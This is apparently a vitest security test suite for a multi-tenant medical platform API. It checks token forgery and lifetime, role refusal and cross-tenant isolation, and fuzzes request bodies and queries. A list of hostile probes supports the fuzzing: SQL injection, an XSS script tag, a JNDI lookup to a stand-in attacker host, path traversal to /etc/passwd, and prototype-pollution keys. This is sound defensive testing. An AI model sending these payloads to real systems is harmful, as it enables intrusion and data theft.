import { capabilities } from "@medloop/functions/declaration/index";
import type { RouteDeclaration } from "@medloop/functions/declaration/types";
import { Audit, RolesByKind, type TenantKind, withActor } from "@medloop/shared";
import { Db } from "@medloop/shared/db/service";
import fc from "fast-check";
import { decodeJwt, generateKeyPair, importPKCS8, type JWTPayload, SignJWT } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../test/eventually.ts";
import { startTestPlatform, type TestPlatform } from "../test/platform.ts";
import { fillPath, ghostParams, routeSamples, type Victim, victimIds } from "./route-samples.ts";
import { complaintIds, complaintSamples, prepareComplaintVictim } from "./route-samples-complaints.ts";
import { prepareWarningVictim, warningIds, warningSamples } from "./route-samples-early-warning.ts";
import { prepareQualityVictim, qualityIds, qualitySamples, qualityVictim } from "./route-samples-quality.ts";
import { prepareRecallVictim, recallIds, recallSamples } from "./route-samples-recalls.ts";

const DEMO_TENANT_OF_KIND: Record<TenantKind, string> = {
  manufacturer: "acme-med",
  hospital: "city-hospital",
  partner: "fixit-service",
};
const routes: RouteDeclaration[] = capabilities.flatMap((c) => [...(c.routes ?? [])]);
const protectedRoutes = routes.filter((r) => r.roles !== "public");
const key = (r: RouteDeclaration) => `${r.method} ${r.path}`;
const samples = { ...routeSamples, ...warningSamples, ...qualitySamples, ...complaintSamples, ...recallSamples };
/** The victim's records made through the API for the suite (route-samples-*.ts), by id. */
const madeIds = () => [...warningIds(), ...qualityIds(), ...complaintIds(), ...recallIds()];
/** Params with each id of a record made for the suite replaced by one that exists nowhere. */
const ghostsOfMade = (params: Record<string, string>) =>
  Object.fromEntries(Object.entries(params).map(([k, v]) => [k, madeIds().includes(v) ? crypto.randomUUID() : v]));

let p: TestPlatform;
let victim: Victim;
let attackerToken: string;
let stockBefore: unknown;

beforeAll(async () => {
  p = await startTestPlatform({ seed: "demo" });
  const victimAdmin = await signIn("acme-med", "admin@acme-med.test");
  const { body } = await p.call("GET", "/v1/users", { token: victimAdmin });
  const planner = body.items.find((u: { email: string }) => u.email === "planner@acme-med.test");
  const first = async (path: string) => (await p.call("GET", path, { token: victimAdmin })).body.items[0];
  const [product, material, supplier, customer, site, warehouse, workCentre] = await Promise.all(
    ["products", "materials", "suppliers", "customers", "sites", "warehouses", "work-centres"].map((r) =>
      first(`/v1/${r}`),
    ),
  );
  const certificate = await first(`/v1/suppliers/${supplier.supplierId}/certificates`);
  const location = await first(`/v1/warehouses/${warehouse.warehouseId}/locations`);
  const gateways = await p.call("GET", "/v1/gateways", { token: victimAdmin });
  const devices = await p.call("GET", "/v1/devices", { token: victimAdmin });
  victim = {
    tenantId: "acme-med",
    userId: planner.userId,
    email: planner.email,
    productId: product.productId,
    materialId: material.materialId,
    supplierId: supplier.supplierId,
    certificateId: certificate.certificateId,
    customerId: customer.customerId,
    siteId: site.siteId,
    warehouseId: warehouse.warehouseId,
    locationId: location.locationId,
    workCentreId: workCentre.workCentreId,
    ...(await stockOf(victimAdmin)),
    ...(await procurementOf(victimAdmin)),
    thingName: gateways.body.items[0].thingName,
    deviceId: devices.body.items[0].deviceId,
    ...(await shippedOf(victimAdmin)),
    // Linked with acme-med in the seed; the attacker (city-hospital) has no link with it.
    linkedHospital: "river-hospital",
    ...(await productionOf(victimAdmin)),
  };
  await prepareWarningVictim(p, (email) => signIn("acme-med", email));
  await prepareQualityVictim(p, (email) => signIn("acme-med", email));
  await prepareComplaintVictim(p, signIn);
  await prepareRecallVictim(p, signIn);
  attackerToken = await signIn("city-hospital", "admin@city-hospital.test");
  stockBefore = (await p.call("GET", lotPath(), { token: victimAdmin })).body;
  expect(stockBefore).toMatchObject({ lot: { lotNo: victim.stock.lotNo } });
});
afterAll(() => p?.stop());

/**
 * One sign-in per demo user for the whole file: a login is a scrypt hash (memory-hard, ~0.1–0.8 s
 * here), and the checks below sign in once per route. Tokens last an hour; this file takes minutes.
 */
const tokens = new Map<string, Promise<string>>();
const signIn = (tenant: string, email: string) => {
  const key = `${tenant}/${email}`;
  if (!tokens.has(key)) tokens.set(key, p.login(tenant, email));
  return tokens.get(key)!;
};

const lotPath = () => `/v1/inventory/materials/${victim.stock.materialId}/lots/${victim.stock.lotNo}`;

/** Ids of the victim's seeded stock, found through its own API as its admin. */
async function stockOf(token: string) {
  const get = async (path: string) => (await p.call("GET", path, { token })).body;
  // The seeded pressure sensors have lots, a reservation and a count waiting for approval.
  const materials = await get("/v1/materials");
  const materialId = materials.items.find((m: { code: string }) => m.code === "SNS-PRES-01").materialId as string;
  const stock = await get(`/v1/inventory/stock?materialId=${materialId}`);
  const { lotNo, warehouseId, locationId } = stock.items[0];
  const counts = await get(`/v1/inventory/counts?warehouseId=${warehouseId}`);
  const reservations = await get(`/v1/inventory/reservations?materialId=${materialId}`);
  return {
    stock: { materialId, lotNo, warehouseId, locationId },
    countId: counts.items[0].countId as string,
    reservationId: reservations.items[0].reservationId as string,
  };
}

/** A purchase order of the victim with a receipt, found through its own API as its admin. */
async function procurementOf(token: string) {
  const get = async (path: string) => (await p.call("GET", path, { token })).body;
  const orders = await get("/v1/purchase-orders");
  const received = orders.items.find((o: { received: number }) => o.received > 0);
  const detail = await get(`/v1/purchase-orders/${received.poId}`);
  const receipt = detail.receipts[0];
  return {
    poId: received.poId as string,
    receiptId: receipt.receiptId as string,
    receivedLot: { materialId: receipt.materialId as string, lotNo: receipt.lotNo as string },
  };
}

/**
 * A delivered shipment of the victim and one serial on it, and a device in ANOTHER hospital's
 * installed base (river-hospital's: the attacker is city-hospital), from the seeded demo data.
 */
async function shippedOf(token: string) {
  const get = async (path: string, t = token) => (await p.call("GET", path, { token: t })).body;
  const shipments = await get("/v1/shipments?status=delivered");
  const toRiver = shipments.items.find((s: { custodianTenantId: string }) => s.custodianTenantId === "river-hospital");
  const shipment = await get(`/v1/shipments/${toRiver.shipmentId}`);
  const river = await signIn("river-hospital", "biomed-engineer@river-hospital.test");
  // The projection travels through the stream and the bus after seeding.
  const devices = await eventually("river-hospital's installed base", async () => {
    const found = await get("/v1/installed-base", river);
    return found.items?.length ? found : undefined;
  });
  return {
    shipmentId: shipment.shipmentId as string,
    shippedSerial: { productId: shipment.lines[0].productId as string, serialNo: shipment.lines[0].serialNo as string },
    installedId: devices.items[0].installedId as string,
  };
}

/** The seeded order that is still in progress, and its open nonconformance. */
async function productionOf(token: string) {
  const get = async (path: string) => (await p.call("GET", path, { token })).body;
  const orders = await get("/v1/production/orders?status=in-progress");
  const orderId = orders.items[0].orderId as string;
  const record = await get(`/v1/production/orders/${orderId}`);
  return { orderId, ncId: record.nonconformances[0].ncId as string };
}

/**
 * Tokens signed with the platform's real key (the handlers' issuer key in this process), the claims
 * of a real sign-in, only the lifetime forged: the gateway must refuse them on its own rule.
 */
async function resign(shape: (t: SignJWT, now: number) => SignJWT) {
  const claims = decodeJwt(await signIn("acme-med", "admin@acme-med.test"));
  const { exp: _exp, iat: _iat, ...rest } = claims as JWTPayload;
  const now = Math.floor(Date.now() / 1000);
  const key = await importPKCS8(process.env.MEDLOOP_JWT_PRIVATE_KEY!, "ES256");
  return shape(new SignJWT(rest).setProtectedHeader({ alg: "ES256", kid: process.env.MEDLOOP_JWT_KID }), now).sign(key);
}
let badLifetimes: string[];
beforeAll(async () => {
  badLifetimes = await Promise.all([
    resign((t, now) => t.setIssuedAt(now)),
    resign((t, now) => t.setIssuedAt(now).setExpirationTime(now + 13 * 3600)),
    resign((t, now) => t.setIssuedAt(now - 7200).setExpirationTime(now - 3600)),
  ]);
});

describe("a token's lifetime", () => {
  it("the same re-signed claims with a bounded exp are accepted: only the lifetime is refused", async () => {
    const fine = await resign((t, now) => t.setIssuedAt(now).setExpirationTime(now + 3600));
    expect((await p.call("GET", "/v1/me", { token: fine })).status).toBe(200);
    for (const token of badLifetimes) {
      expect((await p.call("GET", "/v1/me", { token })).status).toBe(401);
    }
  });
});

describe("every declared route", () => {
  it("has a security sample", () => {
    expect(routes.map(key).filter((k) => !samples[k])).toEqual([]);
  });

  it.each(protectedRoutes.map((r) => [key(r), r] as const))("%s: no token → 401, handler not run", async (_, r) => {
    const s = samples[key(r)]!(victim);
    const res = await p.call(r.method, fillPath(r.path, s.params), { body: s.body });
    expect(res.status).toBe(401);
  });

  it.each(protectedRoutes.map((r) => [key(r), r] as const))("%s: forged or expired token → 401", async (_, r) => {
    const { privateKey } = await generateKeyPair("ES256");
    const forged = await new SignJWT({ uid: victim.userId, tid: "acme-med", tkind: "manufacturer", roles: "admin" })
      .setProtectedHeader({ alg: "ES256" })
      .setSubject(victim.userId)
      .setIssuer(p.urls.api)
      .setAudience("medloop")
      .setExpirationTime("1h")
      .sign(privateKey);
    const s = samples[key(r)]!(victim);
    const res = await p.call(r.method, fillPath(r.path, s.params), { body: s.body, token: forged });
    expect(res.status).toBe(401);
  });

  it.each(protectedRoutes.map((r) => [key(r), r] as const))(
    "%s: a token signed by the platform's own key but without exp, living too long or expired → 401",
    async (_, r) => {
      const s = samples[key(r)]!(victim);
      for (const token of badLifetimes) {
        const res = await p.call(r.method, fillPath(r.path, s.params), { body: s.body, token });
        expect(res.status).toBe(401);
      }
    },
  );

  it.each(protectedRoutes.map((r) => [key(r), r] as const))("%s: a role not allowed → 403", async (_, r) => {
    const allowed = r.roles as readonly string[];
    // A role of a kind the route serves (manufacturer unless it names its kinds), signed in at that kind's demo tenant.
    const kinds = r.kinds ?? (["manufacturer"] as const);
    const refusable = kinds.flatMap((kind) =>
      RolesByKind[kind].filter((role) => !allowed.includes(role)).map((role) => ({ kind, role })),
    );
    if (!refusable.length) {
      // Open to every role of the kinds it serves: nothing to refuse, and the declaration says so.
      expect(allowed).toEqual(expect.arrayContaining(kinds.flatMap((kind) => [...RolesByKind[kind]])));
      return;
    }
    const { kind, role } = refusable[0]!;
    const tenant = DEMO_TENANT_OF_KIND[kind];
    const token = await signIn(tenant, `${role}@${tenant}.test`);
    const s = samples[key(r)]!(victim);
    const res = await p.call(r.method, fillPath(r.path, s.params), { body: s.body, token });
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe("role-not-allowed");
  });

  it.each(protectedRoutes.map((r) => [key(r), r] as const))(
    "%s: another tenant's token with the victim's ids → nothing leaks, nothing changes",
    async (_, r) => {
      const s = samples[key(r)]!(victim);
      // A hospital (refused by kind on manufacturer routes), and another manufacturer in a role the
      // route admits (past every kind and role check: only the tenant of the ids stands in the way).
      // A link's path names a tenant, not a record: another manufacturer may hold its own link with it.
      const role = (r.roles as readonly string[]).find((x) =>
        (RolesByKind.manufacturer as readonly string[]).includes(x),
      );
      const manufacturer = role && !r.path.includes("{partnerTenantId}");
      const attackers = [
        { token: attackerToken, refusals: [403, 404] },
        ...(manufacturer
          ? [{ token: await signIn("pulse-medical", `${role}@pulse-medical.test`), refusals: [400, 403, 404, 422] }]
          : []),
      ];
      for (const { token, refusals } of attackers) {
        const res = await p.call(r.method, fillPath(r.path, s.params), { body: s.body, token });
        const text = JSON.stringify(res.body);
        // An id the request itself carried may come back in the refusal ("no material …"); any other is a leak.
        const carried = JSON.stringify([s.params, s.body]);
        for (const id of [...victimIds(victim), ...madeIds()].filter((v) => !carried.includes(v)))
          expect(text).not.toContain(id);
        expect(text).not.toContain(victim.email);
        if (s.params && Object.keys(s.params).length) {
          expect(refusals).toContain(res.status);
          // Same answer as for an id that exists nowhere: the response does not reveal existence.
          const ghost = ghostsOfMade(ghostParams(victim, s.params));
          expect(ghost).not.toEqual(s.params);
          const ghostRes = await p.call(r.method, fillPath(r.path, ghost), { body: s.body, token });
          expect(res.status).toBe(ghostRes.status);
          expect(res.body?.error?.code).toBe(ghostRes.body?.error?.code);
        }
      }
      const victimAdmin = await signIn("acme-med", "admin@acme-med.test");
      const after = await p.call("GET", `/v1/users/${victim.userId}`, { token: victimAdmin });
      expect(after.body).toMatchObject({ status: "active", roles: ["planner"] });
      expect((await p.call("GET", lotPath(), { token: victimAdmin })).body).toEqual(stockBefore);
      const gateway = await p.call("GET", `/v1/gateways/${victim.thingName}`, { token: victimAdmin });
      expect(gateway.body).toMatchObject({ configVersion: 0 });
      const capa = await p.call("GET", `/v1/quality/capas/${qualityVictim.capaId}`, { token: victimAdmin });
      expect(capa.body).toMatchObject({ rev: 3, status: "implementing", actions: [{ status: "open" }] });
    },
  );
});

describe("tenant context comes from the token only", () => {
  it("a tenant id smuggled into a body is refused, not obeyed", async () => {
    const res = await p.call("POST", "/v1/users", {
      token: attackerToken,
      body: {
        tenantId: "acme-med",
        email: "mole@x.test",
        name: "Mole",
        roles: ["admin"],
        password: "long enough password",
      },
    });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe("invalid-input");
  });
});

/**
 * Fuzzing from the contracts (issue 12): every route that takes a body gets bodies made from its
 * valid sample by fast-check — one field given a value of another type, a boundary, an oversized or
 * hostile string, a prototype key, a field left out, or no object at all — and sent by a user the
 * route admits. The route's own zod schema says which of them are invalid; only those are sent,
 * and each must be a 400 (`invalid-input`, or `invalid-json` for a bare string) that changed nothing: no 5xx, no write (the audit trail
 * of every tenant gains access records only).
 */
describe("every declared route's body and query, fuzzed from its schema", () => {
  const HOSTILE_STRINGS = [
    "' OR '1'='1' --",
    '"; DROP TABLE medloop; --',
    "<script>alert(1)</script>",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally.
    "${jndi:ldap://attacker.test/a}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "x".repeat(100_000),
    "\u202egnp.exe",
    "A\u0000B",
  ];
  const hostileValue = fc.oneof(
    fc.constantFrom<unknown>(null, true, -1, 0, 2 ** 53 + 1, -1e308, 1e308, "", [], {}, ...HOSTILE_STRINGS),
    fc.string({ maxLength: 12 }),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 2 }),
  );
  const mutations = (sample: unknown) => {
    const fields = sample && typeof sample === "object" && !Array.isArray(sample) ? Object.keys(sample) : [];
    const asObject = sample as Record<string, unknown>;
    const variants: fc.Arbitrary<unknown>[] = [
      // No object at all.
      fc.constantFrom<unknown>(null, [], "body", 42, [sample]),
      // Prototype keys alongside valid fields: never obeyed, refused where the schema is strict.
      fc.constant({ ...asObject, ...JSON.parse('{"__proto__":{"roles":["admin"]},"constructor":{"prototype":{}}}') }),
    ];
    if (fields.length) {
      variants.push(
        fc.tuple(fc.constantFrom(...fields), hostileValue).map(([f, v]) => ({ ...asObject, [f]: v })),
        fc.constantFrom(...fields).map((f) => Object.fromEntries(Object.entries(asObject).filter(([k]) => k !== f))),
      );
    }
    return fc.oneof(...variants);
  };
  const withBody = protectedRoutes.filter((r) => r.request?.body);

  it("answers every invalid body with a typed 400 and writes nothing, on every route that takes one", async () => {
    const tenants = Object.values(DEMO_TENANT_OF_KIND);
    const heads = new Map(await Promise.all(tenants.map(async (t) => [t, await auditHead(t)] as const)));
    expect(heads.get("acme-med")).toBeGreaterThan(0); // the seed's records: the trail is read, not empty
    const answers: { route: string; status: number; code?: string }[] = [];
    let valid = 0;
    for (const r of withBody) {
      const token = await ownCaller(r);
      const s = samples[key(r)]!(victim);
      // A fixed seed per route: a failure names its route and replays the same bodies.
      for (const body of fc.sample(mutations(s.body), { numRuns: 8, seed: hashOf(key(r)) })) {
        if (r.request!.body!.safeParse(body).success) {
          valid++;
          continue;
        }
        const res = await p.call(r.method, fillPath(r.path, s.params), { body, token });
        answers.push({ route: key(r), status: res.status, code: res.body?.error?.code });
      }
    }
    console.log(
      `fuzz: ${withBody.length} routes with a body, ${answers.length} invalid bodies sent (${valid} valid ones not sent)`,
    );
    // A string body is sent as it is, so some are not JSON at all: refused as such.
    expect(answers.filter((a) => a.status !== 400 || !["invalid-input", "invalid-json"].includes(a.code!))).toEqual([]);
    await p.settled();
    for (const t of tenants) expect([t, await auditedSince(t, heads.get(t)!)]).toEqual([t, ["access"]]);
  });

  // A query string carries text only: hostile text in each declared parameter, and parameters no
  // route declares. Long values stay inside a URL any gateway takes (API Gateway: 10 KB).
  const hostileText = fc.oneof(
    fc.constantFrom(...HOSTILE_STRINGS.map((h) => h.slice(0, 2_000)), "-1", "1e309", "NaN", "0x10", "[]", "{}", ""),
    fc.string({ maxLength: 12 }),
    fc.string({ unit: "binary", maxLength: 8 }),
  );
  const withQuery = protectedRoutes.filter((r) => fieldsOf(r.request?.query).length);

  it("answers every query with a typed answer, never a 5xx, refuses an invalid one with 400 and writes nothing", async () => {
    const tenants = Object.values(DEMO_TENANT_OF_KIND);
    const heads = new Map(await Promise.all(tenants.map(async (t) => [t, await auditHead(t)] as const)));
    const answers: { route: string; query: Record<string, string>; valid: boolean; status: number; code?: string }[] =
      [];
    for (const r of withQuery) {
      const token = await ownCaller(r);
      const s = samples[key(r)]!(victim);
      const fields = fieldsOf(r.request!.query);
      const queries = fc.oneof(
        fc.tuple(fc.constantFrom(...fields), hostileText).map(([f, v]) => ({ [f]: v })),
        fc.dictionary(fc.constantFrom(...fields, "__proto__", "constructor", "tenantId", "limit"), hostileText, {
          maxKeys: 3,
        }),
      );
      for (const query of fc.sample(queries, { numRuns: 10, seed: hashOf(key(r)) })) {
        const valid = r.request!.query!.safeParse(query).success;
        const res = await p.call(r.method, `${fillPath(r.path, s.params)}?${new URLSearchParams(query)}`, { token });
        answers.push({ route: key(r), query, valid, status: res.status, code: res.body?.error?.code });
      }
    }
    console.log(
      `fuzz: ${withQuery.length} routes with a query, ${answers.length} queries sent (${answers.filter((a) => !a.valid).length} invalid)`,
    );
    expect(answers.filter((a) => a.status >= 500 || (a.status >= 400 && !a.code))).toEqual([]);
    expect(answers.filter((a) => !a.valid && (a.status !== 400 || a.code !== "invalid-input"))).toEqual([]);
    await p.settled();
    for (const t of tenants) expect([t, await auditedSince(t, heads.get(t)!)]).toEqual([t, ["access"]]);
  });
});

/** The parameter names a query schema declares (an object schema, possibly wrapped). */
function fieldsOf(schema: unknown): string[] {
  const shape = (schema as { shape?: Record<string, unknown> } | undefined)?.shape;
  return shape ? Object.keys(shape) : [];
}

/** A token of the route's first tenant kind, in a role the route admits: its rightful caller. */
async function ownCaller(r: RouteDeclaration): Promise<string> {
  const kind = (r.kinds ?? ["manufacturer"])[0]!;
  const tenant = DEMO_TENANT_OF_KIND[kind];
  const role = (r.roles as readonly string[]).find((x) => (RolesByKind[kind] as readonly string[]).includes(x))!;
  return signIn(tenant, `${role}@${tenant}.test`);
}

/** A seed for fast-check from a route's key. */
const hashOf = (text: string) => [...text].reduce((h, c) => (h * 31 + c.charCodeAt(0)) | 0, 7);

const auditHead = (tenantId: string) => withActor({ type: "system", tenantId, name: "test" }, () => Audit.headSeq());

/** The entity types of a tenant's audit records after `seq` (the platform runs in this process). */
async function auditedSince(tenantId: string, seq: number): Promise<string[]> {
  return withActor({ type: "system", tenantId, name: "test" }, async () => {
    const head = await Audit.headSeq();
    const types = new Set<string>(["access"]);
    for (let s = seq + 1; s <= head; s++) {
      const { data } = await Db.entities.auditRecord.get({ tenantId, bucket: Math.floor(s / 1000), seq: s }).go();
      types.add(data?.entityType ?? "missing");
    }
    return [...types];
  });
}
